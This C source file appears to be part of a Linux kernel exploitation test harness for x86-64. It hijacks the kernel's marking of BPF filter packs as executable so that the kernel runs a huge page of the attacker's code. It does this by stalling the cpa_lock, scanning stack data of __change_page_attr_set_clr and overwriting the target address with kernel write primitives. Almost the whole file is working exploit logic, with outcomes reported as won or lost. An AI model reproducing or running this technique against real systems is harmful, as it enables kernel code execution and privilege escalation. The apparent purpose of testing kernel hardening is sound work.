// SPDX-License-Identifier: GPL-2.0-only
/*
 * The kernel makes a pack for compiled filters read-only, and runs it from then on. Which
 * pages these are is read again and again from a stack, and for each it waits for a lock,
 * which is made to look held. So a huge page of the attacker's is run instead.
 */
#include <string.h>
#include <unistd.h>

#include "answer.h"
#include "attack.h"
#include "deposit.h"
#include "held.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define PACKS		"pack_list"
#define PACK_PAGES	512
#define LIST_LAST	8
#define FILTERS		200	/* more than a pack has room for */
#define LOCK		"cpa_lock"
#define LOOP		"__change_page_attr_set_clr"
#define LENGTH		0xb00	/* at most, with all that it calls in line */
#define NO_EXEC		(1UL << 63)
#define PAUSE		2000	/* microseconds */
#define PATIENCE	1000	/* pauses */
#define TRIES		500	/* the lock is free for one call each time, so few pages go by */

/* What it says of the pages to be changed: struct cpa_data. */
enum { VADDR, PGD, MASK_SET, MASK_CLR, NUMPAGES, CURPAGE, CPA_WORDS };

static struct {
	uint64_t packs, page;
	bool is_other;		/* it waited, and was not about to have the pack run */
} text;

/* They stay. */
static void need_pack(void)
{
	uint64_t last = kread64(text.packs + LIST_LAST);
	int i;

	for (i = 0; i < FILTERS && kread64(text.packs + LIST_LAST) == last; i++)
		held_long_filter();
}

/* While the other mapping of a page is changed, it says of that page only. */
static bool is_cpa(const uint64_t *words)
{
	return !words[PGD] && words[MASK_CLR] && is_kernel_address(words[VADDR]) &&
	       words[CURPAGE] < PACK_PAGES &&
	       (words[NUMPAGES] == 1 || words[NUMPAGES] == PACK_PAGES - words[CURPAGE]);
}

static bool is_to_run(const uint64_t *words)
{
	return words[MASK_CLR] & NO_EXEC && words[NUMPAGES] == PACK_PAGES - words[CURPAGE];
}

static bool change_pages(const struct held_change *change, uint64_t addr, const uint64_t *words)
{
	int i;

	(void)change;
	(void)addr;
	for (i = 0; i + CPA_WORDS <= HELD_ABOVE; i++) {
		if (!is_cpa(words + i))
			continue;
		text.is_other = !is_to_run(words + i);
		if (!text.is_other)
			kwrite64(words[i + VADDR], text.page - words[i + CURPAGE] * PAGE_SIZE);
		return !text.is_other;
	}
	return false;
}

static bool is_over(const struct held_change *change)
{
	(void)change;
	return text.is_other || held_is_done();
}

/* They may be made read-only first, by calls that are let pass. */
static bool have_it_run(void)
{
	const struct held_lock lock = { ksymbol(LOCK), false };
	const struct held_change pages = { LOOP, LENGTH, change_pages, is_over, NULL };
	bool changed = held_act(&lock, &pages);
	int i;

	for (i = 0; i < TRIES && !changed && text.is_other; i++) {
		text.is_other = false;
		changed = held_again(&lock, &pages);
	}
	for (i = 0; i < PATIENCE && !held_is_done(); i++)
		usleep(PAUSE);
	return changed;
}

/* By the part that is the answer, which the kernel writes by the direct map. */
static bool find_page(void)
{
	struct huge huge;
	struct slot slot;

	if (!make_huge(&huge))
		return false;
	memcpy((void *)huge.at, answer_code, ANSWER_SIZE);
	if (kwalk((uint64_t)huge.at, LEAF, 0, &slot))
		return false;
	text.page = direct_map_base() + (slot.value & PTE_PFN_MASK & -PMD_SIZE);
	return true;
}

enum outcome text_held(void)
{
	uint64_t value = 0;
	int err;

	if (sysconf(_SC_NPROCESSORS_ONLN) < 2)
		return skipped("needs a second CPU");
	text.packs = ksymbol(PACKS);
	if (!text.packs || !ksymbol(LOCK) || !find_page())
		return broken("no packs, no lock or no huge page");
	held_start(need_pack);
	if (!have_it_run()) {
		held_stop();
		return broken("nothing waited that was about to be run");
	}
	held_stop();
	err = call_answer(text.page, &value);
	if (!is_answer(err, value))
		return lost("the kernel does not run a page of this process (error %d)", -err);
	return won("the kernel runs a huge page of this process, and returned 0x%lx", value);
}
#else
enum outcome text_held(void)
{
	return skipped("x86-64 only");
}
#endif
